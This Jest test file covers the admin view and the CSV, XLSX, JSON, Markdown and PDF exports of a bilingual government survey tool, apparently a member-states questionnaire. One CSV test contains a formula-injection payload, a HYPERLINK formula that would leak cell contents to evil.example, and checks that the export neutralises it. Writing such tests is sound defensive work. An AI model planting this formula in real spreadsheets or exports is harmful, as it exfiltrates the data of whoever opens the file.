import { execFile } from 'node:child_process';
import { promises as fs } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { adminResponseSchema, adminView, type AdminResponse } from '../../src/admin/view';
import { exportCsv, exportJson, exportXlsx } from '../../src/admin/exports';
import { translatorFor } from '../../src/i18n';
import { createEmbeddedStore } from '../../src/store';
import { DATA_FILE } from '../../src/store/embedded';
import type { ResponseDoc } from '../../src/store/port';
import { main as exportMain } from '../../scripts/export';
import { englishScript, longLegalAnswer } from '../fixtures/answers';
import { definition, i18n } from '../fixtures/interview';
import { englishTricky, responseFrom, spanishTricky, trickyAnswers } from '../fixtures/responses';

const META = ['response_id', 'country_code', 'country_name', 'response_status', 'response_locale', 'created_at', 'updated_at', 'submitted_at'];
const itemIds = definition.items.map((i) => i.id);

// Driven through the real engine: a submitted English response, a submitted Spanish one, one left at q9.
const english = responseFrom(englishTricky, { now: new Date('2026-11-28T10:00:00Z') });
const spanish = responseFrom(spanishTricky, { locale: 'es', now: new Date('2026-11-29T15:30:00Z') });
const partial = responseFrom(englishScript, { stopAfter: 'q9', now: new Date('2026-11-30T08:00:00Z') });
const docs = [english, spanish, partial];

const withAnswers = (doc: ResponseDoc, answers: Record<string, string | string[]>): ResponseDoc => ({
  ...doc,
  answers: [...doc.answers.filter((a) => !(a.itemId in answers)), ...Object.entries(answers).map(([itemId, value]) => ({ itemId, value }))],
});

describe('adminView', () => {
  const view = adminView(english, definition);

  test('has the shape of the admin API, as plain JSON', () => {
    expect(adminResponseSchema.parse(view)).toEqual(view);
    expect(JSON.parse(JSON.stringify(view))).toEqual(view);
    expect(Object.keys(view).sort()).toEqual(
      ['id', 'edition', 'country', 'status', 'locale', 'respondent', 'answered', 'total', 'unansweredRequired', 'createdAt', 'updatedAt', 'submittedAt', 'answers', 'links', 'carriedForward', 'review'].sort(),
    );
  });

  test('carries the response metadata and the respondent block', () => {
    expect(view).toMatchObject({
      id: english.id,
      country: { code: 'PRY', name: 'Paraguay' },
      status: 'submitted',
      locale: 'en',
      respondent: {
        name: 'Ana María Giménez Núñez',
        title: 'Director General of Digital Government',
        organization: 'Ministerio de Tecnologías de la Información y Comunicación (MITIC)',
        email: 'ana.gimenez@mitic.gov.py',
      },
      createdAt: '2026-11-28T10:00:00.000Z',
      submittedAt: '2026-11-28T10:00:00.000Z',
      unansweredRequired: [],
    });
  });

  test('answers: yes/no, option ids, arrays for multi, the country code, text verbatim; unanswered absent', () => {
    const a = view.answers;
    expect(a.country).toBe('PRY');
    expect(a.q4).toBe('yes');
    expect(a.q12).toBe('no');
    expect(a.q20).toBe('other');
    expect(a['q20.other']).toBe('Eight-year (2022–2030)');
    expect(a['respondent.capacity']).toEqual(['authorized', 'collective']);
    expect(a.q29).toEqual(['ai', 'iot']);
    expect(a['q9.detail']).toBe(longLegalAnswer.replace(/^Yes — /, ''));
    expect(a.q43).toBe(trickyAnswers.q43);
    expect(a.q44).toBe(trickyAnswers.q44);
    for (const absent of ['q22', 'q27', 'q2.eParticipation', 'q12.detail', 'q29.robotics.detail', 'respondent.capacityOther']) {
      expect(a).not.toHaveProperty([absent]);
    }
    // Keys in questionnaire order.
    expect(Object.keys(a)).toEqual(itemIds.filter((id) => id in a));
  });

  test('answered/total count the items that apply to these answers', () => {
    // Not applicable here: respondent.capacityOther (no "other"), q12.detail and q18.detail (no),
    // q29.{robotics,blockchain,5g,others}.detail (not selected), q36.detail and q40.detail (no).
    expect(view.total).toBe(definition.items.length - 9);
    expect(view.answered).toBe(Object.keys(view.answers).length);
    expect(view.answered).toBeLessThan(view.total);
  });

  test('an answer to a follow-up that no longer applies is neither shown nor counted', () => {
    const changed = withAnswers(english, { q4: 'no' }); // q4.cio.* were answered under "yes"
    const v = adminView(changed, definition);
    expect(v.answers).not.toHaveProperty(['q4.cio.name']);
    expect(v.answers.q4).toBe('no');
    expect(v.total).toBe(view.total - 4);
    expect(v.answered).toBe(view.answered - 4);
  });

  test('unansweredRequired lists the required items that apply and have no answer, in order', () => {
    const v = adminView(partial, definition);
    expect(v.status).toBe('in_progress');
    expect(v.submittedAt).toBeNull();
    expect(v.unansweredRequired).not.toContain('q1');
    expect(v.unansweredRequired).not.toContain('q9');
    expect(v.unansweredRequired).toEqual(expect.arrayContaining(['q10', 'q19', 'q20', 'q43', 'consent']));
    expect(v.unansweredRequired).not.toContain('q22'); // optional
    expect(v.unansweredRequired).not.toContain('q20.other'); // does not apply (q20 unanswered)
    const order = v.unansweredRequired.map((id) => itemIds.indexOf(id));
    expect(order).toEqual([...order].sort((x, y) => x - y));

    const cioMissing = withAnswers(english, {});
    cioMissing.answers = cioMissing.answers.filter((a) => a.itemId !== 'q4.cio.email');
    expect(adminView(cioMissing, definition).unansweredRequired).toEqual(['q4.cio.email']);
  });

  test('a response with no answers yet', () => {
    const empty: ResponseDoc = { ...partial, answers: [], country: null, status: 'in_progress' };
    const v = adminView(empty, definition);
    expect(v.country).toBeNull();
    expect(v.respondent).toEqual({ name: null, title: null, organization: null, email: null });
    expect(v.answers).toEqual({});
    expect(v.answered).toBe(0);
    expect(v.unansweredRequired[0]).toBe('country');
  });
});

describe('exportJson', () => {
  test('is a pretty JSON array of the admin views', () => {
    const json = exportJson(docs, definition);
    expect(json).toContain('\n  {\n    "id": ');
    const parsed = JSON.parse(json) as AdminResponse[];
    expect(parsed).toEqual(docs.map((d) => adminView(d, definition)));
    expect(exportJson([], definition).trim()).toBe('[]');
  });
});

/** The value a cell must hold: multi joined with "; ", formula-like starts neutralised with an apostrophe. */
const expectedCell = (value: string | string[] | undefined): string => {
  const text = value === undefined ? '' : Array.isArray(value) ? value.join('; ') : value;
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
};

describe('exportCsv', () => {
  const csv = exportCsv(docs, definition, i18n);
  const records = parse(csv, { bom: true, relax_quotes: false, relax_column_count: false }) as string[][];

  test('starts with a UTF-8 BOM and separates records with CRLF', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')[0]).toBe(`\uFEFF${[...META, ...itemIds].join(',')}`);
  });

  test('two header rows: column ids in questionnaire order, then the English wording', () => {
    expect(records).toHaveLength(2 + docs.length);
    expect(records[0]).toEqual([...META, ...itemIds]);
    const en = translatorFor(i18n, 'en');
    const wording = records[1];
    expect(wording[META.length + itemIds.indexOf('q1')]).toBe(`1. ${en('questionnaire:item.q1')}`);
    expect(wording[META.length + itemIds.indexOf('q4.cio.email')]).toBe(`4. ${en('questionnaire:item.q4.cio.email')}`);
    expect(wording[META.length + itemIds.indexOf('country')]).toBe('COUNTRY NAME');
    expect(wording[0]).toBe('Response id');
  });

  test('round-trips every value through a CSV parser', () => {
    docs.forEach((doc, n) => {
      const row = records[2 + n];
      const view = adminView(doc, definition);
      expect(row.slice(0, META.length)).toEqual([
        doc.id,
        view.country?.code ?? '',
        view.country?.name ?? '',
        view.status,
        view.locale,
        view.createdAt,
        view.updatedAt,
        view.submittedAt ?? '',
      ]);
      expect(row.slice(META.length)).toEqual(itemIds.map((id) => expectedCell(view.answers[id])));
    });
  });

  test('quotes every field holding a line break, quote or comma (a lenient parser would not notice)', () => {
    const special = records.slice(2).flat().filter((cell) => /[",\r\n]/.test(cell));
    expect(special.length).toBeGreaterThan(10);
    for (const cell of special) expect(csv).toContain(`,"${cell.replace(/"/g, '""')}"`);
    expect(csv).toContain(`,"${englishScript.q1}",`);
  });

  test('keeps multi-line answers with quotes, commas and Unicode, and neutralises formulas', () => {
    const row = records[2];
    const cell = (id: string) => row[META.length + itemIds.indexOf(id)];
    expect(cell('q9.detail')).toBe(longLegalAnswer.replace(/^Yes — /, ''));
    expect(cell('q9.detail')).toContain('"On free citizen access');
    expect(cell('q43')).toBe(`'${trickyAnswers.q43}`);
    expect(cell('q43')).toContain('\n\n«Cooperación» — ñandutí, €, 日本');
    expect(cell('q44')).toBe(`'${trickyAnswers.q44}`);
    expect(cell('q31')).toBe(`'${trickyAnswers.q31}`);
    expect(cell('q32')).toBe(`'${trickyAnswers.q32}`);
    expect(cell('respondent.name')).toBe('Ana María Giménez Núñez');
    expect(cell('q29')).toBe('ai; iot');
    expect(cell('q22')).toBe('');
    // Raw: quoted, quotes doubled, the apostrophe inside the quotes.
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
    expect(csv).not.toMatch(/(^|,)=/m);
  });
});

describe('exportXlsx', () => {
  let workbook: ExcelJS.Workbook;
  beforeAll(async () => {
    const buffer = await exportXlsx(docs, definition, i18n);
    expect(buffer.subarray(0, 2).toString()).toBe('PK');
    workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  });

  const rowValues = (sheet: ExcelJS.Worksheet, n: number): string[] => {
    const row = sheet.getRow(n);
    return Array.from({ length: sheet.columnCount }, (_, i) => {
      const v = row.getCell(i + 1).value;
      return v === null || v === undefined ? '' : String(v);
    });
  };

  test('sheet "Responses": ids, English wording, then one row per response with every value as a string', () => {
    const sheet = workbook.getWorksheet('Responses')!;
    expect(sheet).toBeDefined();
    expect(rowValues(sheet, 1)).toEqual([...META, ...itemIds]);
    expect(rowValues(sheet, 2)[META.length + itemIds.indexOf('q9')]).toBe(`9. ${translatorFor(i18n, 'en')('questionnaire:item.q9')}`);
    expect(sheet.rowCount).toBe(2 + docs.length);
    docs.forEach((doc, n) => {
      const view = adminView(doc, definition);
      const values = rowValues(sheet, 3 + n);
      expect(values.slice(0, 2)).toEqual([doc.id, view.country?.code ?? '']);
      expect(values.slice(META.length)).toEqual(
        itemIds.map((id) => {
          const v = view.answers[id];
          return v === undefined ? '' : Array.isArray(v) ? v.join('; ') : v;
        }),
      );
    });
  });

  test('a formula-like answer is a string cell, never a formula', () => {
    const sheet = workbook.getWorksheet('Responses')!;
    const cell = sheet.getRow(3).getCell(META.length + itemIds.indexOf('q44') + 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(trickyAnswers.q44);
    expect(cell.formula).toBeUndefined();
    const multiLine = sheet.getRow(3).getCell(META.length + itemIds.indexOf('q43') + 1);
    expect(multiLine.value).toBe(trickyAnswers.q43);
  });

  test('sheet "Questionnaire": every item with its wording and options in English and Spanish', () => {
    const sheet = workbook.getWorksheet('Questionnaire')!;
    expect(sheet).toBeDefined();
    const header = rowValues(sheet, 1);
    expect(header).toEqual(['Item id', 'Section', 'Question number', 'Kind of answer', 'Required', 'Asked only when', 'Wording (English)', 'Wording (Spanish)', 'Options (English)', 'Options (Spanish)']);
    expect(sheet.rowCount).toBe(1 + definition.items.length);
    const rows = new Map(definition.items.map((item, n) => [item.id, rowValues(sheet, n + 2)]));
    expect([...rows.keys()]).toEqual(itemIds);
    const en = translatorFor(i18n, 'en');
    const es = translatorFor(i18n, 'es');
    expect(rows.get('q9')).toEqual(['q9', 'C', '9', 'yesno', 'yes', '', `9. ${en('questionnaire:item.q9')}`, `9. ${es('questionnaire:item.q9')}`, '', '']);
    expect(rows.get('q9')![7]).toMatch(/^9\. ¿Existe alguna legislación/);
    expect(rows.get('q9.detail')![5]).toBe('q9 is yes');
    expect(rows.get('q29.ai.detail')![5]).toBe('q29 includes ai');
    const q20 = rows.get('q20')!;
    expect(q20[8].split('\n')).toEqual(['two: Two-year', 'three: Three-year', 'five: Five-year', 'ten: Ten-year', 'other: Other']);
    expect(q20[9].split('\n')).toEqual(['two: Dos años', 'three: Tres años', 'five: Cinco años', 'ten: Diez años', 'other: Otro']);
    expect(rows.get('consent')![7]).toBe(es('questionnaire:item.consent'));
  });
});

describe('npm run export (scripts/export.ts)', () => {
  const root = join(__dirname, '../..');
  const tsx = join(root, 'node_modules/.bin/tsx');
  const run = promisify(execFile);
  let dir: string;
  let dataDir: string;
  let before: { text: string; ino: number; mtimeMs: number };
  const snapshotOf = async () => {
    const file = join(dataDir, DATA_FILE);
    const stat = await fs.stat(file);
    return { text: await fs.readFile(file, 'utf8'), ino: stat.ino, mtimeMs: stat.mtimeMs };
  };

  beforeAll(async () => {
    dir = await fs.mkdtemp(join(tmpdir(), 'msq-export-test-'));
    dataDir = join(dir, 'data');
    const store = createEmbeddedStore({ dir: dataDir });
    await store.init();
    for (const doc of docs) expect((await store.insertResponse(doc)).ok).toBe(true);
    await store.close();
    before = await snapshotOf();
  });
  afterAll(async () => {
    await fs.rm(dir, { recursive: true, force: true });
  });

  const env = () => ({ ...process.env, DATA_DIR: dataDir, MONGODB_URI: '', LOG_LEVEL: 'silent' });
  const cli = async (args: string[]) => {
    try {
      const { stdout, stderr } = await run(tsx, ['scripts/export.ts', ...args], { cwd: root, env: env(), maxBuffer: 64 * 1024 * 1024 });
      return { code: 0, stdout, stderr };
    } catch (error) {
      const e = error as { code: number; stdout: string; stderr: string };
      return { code: e.code, stdout: e.stdout, stderr: e.stderr };
    }
  };
  /** The same main() in this process (faster), with its output captured. */
  const inProcess = async (args: string[]) => {
    let stdout = '';
    const stderr: string[] = [];
    const code = await exportMain(args, { stdout: (d) => (stdout += d), stderr: (l) => stderr.push(l) }, { DATA_DIR: dataDir });
    return { code, stdout, stderr };
  };

  test('json to stdout, read from the store the bot uses, without rewriting its files', async () => {
    const { code, stdout } = await cli(['--format', 'json']);
    expect(code).toBe(0);
    const parsed = JSON.parse(stdout) as AdminResponse[];
    expect(parsed.map((r) => r.id).sort()).toEqual(docs.map((d) => d.id).sort());
    const { participants, answeredBy, ...view } = parsed.find((r) => r.id === english.id)!;
    expect(view).toEqual(adminView(english, definition));
    // Stored without a turn (no audit events): one respondent, no answer attributed.
    expect(participants).toEqual([{ id: english.respondentKey, label: english.respondentKey, lead: true, sections: [], identities: [english.respondentKey] }]);
    expect(answeredBy).toEqual({});
    // The export reads the store the bot uses, beside it, and leaves its file as it was.
    expect(await snapshotOf()).toEqual(before);
  });

  test('a bad argument: one line on stderr and exit code 2', async () => {
    const xlsx = await cli(['--format', 'xlsx']);
    expect(xlsx.code).toBe(2);
    expect(xlsx.stdout).toBe('');
    expect(xlsx.stderr.trim().split('\n')).toHaveLength(1);
    expect(xlsx.stderr).toContain('--format xlsx writes a binary file: give --out FILE');
  });

  test('the PDF of one response, in Spanish, to a file', async () => {
    const out = join(dir, 'es.pdf');
    const { code, stderr } = await cli(['--response', spanish.id, '--format', 'pdf', '--lang', 'es', '--out', out]);
    expect(code).toBe(0);
    expect(stderr).toContain(`wrote the pdf document of ${spanish.id}`);
    expect((await fs.readFile(out)).subarray(0, 5).toString()).toBe('%PDF-');
  });

  test('--status filters; csv and xlsx to files', async () => {
    const submitted = await inProcess(['--format', 'json', '--status', 'submitted']);
    expect(submitted.code).toBe(0);
    expect((JSON.parse(submitted.stdout) as AdminResponse[]).map((r) => r.id).sort()).toEqual([english.id, spanish.id].sort());
    const inProgress = await inProcess(['--format', 'json', '--status', 'in_progress']);
    expect((JSON.parse(inProgress.stdout) as AdminResponse[]).map((r) => r.id)).toEqual([partial.id]);

    const csvFile = join(dir, 'out.csv');
    const csv = await inProcess(['--format', 'csv', '--out', csvFile]);
    expect(csv).toMatchObject({ code: 0, stdout: '' });
    expect(csv.stderr).toEqual([`export: wrote 3 response(s) as csv to ${csvFile}`]);
    const records = parse(await fs.readFile(csvFile, 'utf8'), { bom: true }) as string[][];
    expect(records).toHaveLength(5);

    const xlsxFile = join(dir, 'out.xlsx');
    expect((await inProcess(['--format', 'xlsx', '--out', xlsxFile, '--status', 'submitted'])).code).toBe(0);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(xlsxFile);
    expect(workbook.getWorksheet('Responses')!.rowCount).toBe(4);
  });

  test('markdown of one response to stdout; an unknown response exits with 1', async () => {
    const md = await inProcess(['--response', english.id, '--format', 'md']);
    expect(md.code).toBe(0);
    expect(md.stdout).toContain('# Member States Questionnaire (MSQ)');
    expect(md.stdout).toContain('Ana María Giménez Núñez');
    const missing = await inProcess(['--response', 'no-such-id', '--format', 'md']);
    expect(missing.code).toBe(1);
    expect(missing.stderr[0]).toContain('no response has the id no-such-id');
  });

  test.each([
    [['--format', 'yaml'], '--format yaml: use json, csv, xlsx, md or pdf'],
    [[], '--format is required'],
    [['--format', 'json', '--status', 'done'], '--status done: use submitted or in_progress'],
    [['--format', 'md'], 'give --response ID'],
    [['--format', 'pdf', '--response', 'x'], 'give --out FILE'],
    [['--format', 'csv', '--lang', 'es'], '--lang is for documents'],
    [['--format', 'md', '--response', 'x', '--lang', 'fr'], '--lang fr: use en or es'],
    [['--format', 'csv', '--bogus'], "Unknown option '--bogus'"],
  ])('refuses %j', async (args, message) => {
    await expect(inProcess(args)).rejects.toThrow(message);
  });
});
